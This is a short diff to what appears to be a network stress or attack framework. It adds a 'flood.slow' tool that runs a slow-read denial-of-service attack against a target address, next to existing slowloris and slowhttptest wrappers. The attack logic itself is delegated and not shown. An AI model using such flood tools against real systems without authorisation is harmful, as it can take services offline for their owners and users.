@@ -170,6 +170,21 @@ def slowloris(
     )
 
 
+@tool("flood.slow")
+def own_slow_read(s: Strike, *, connections: int = 60, interval: float = 2.0, port: int = 80) -> list[str]:
+    """Answers taken a few bytes at a time."""
+    return own(
+        "requests",
+        "slow_read",
+        target=s.address,
+        port=port,
+        connections=connections,
+        interval=interval,
+        seconds=s.seconds,
+        seed=s.random.getrandbits(32),
+    )
+
+
 @tool("flood.slow", package="slowhttptest")
 def slowhttptest(s: Strike, *, mode: str = "H", connections: int = 100, interval: int = 4) -> list[str]:
     """mode H headers, B body, X slow read."""
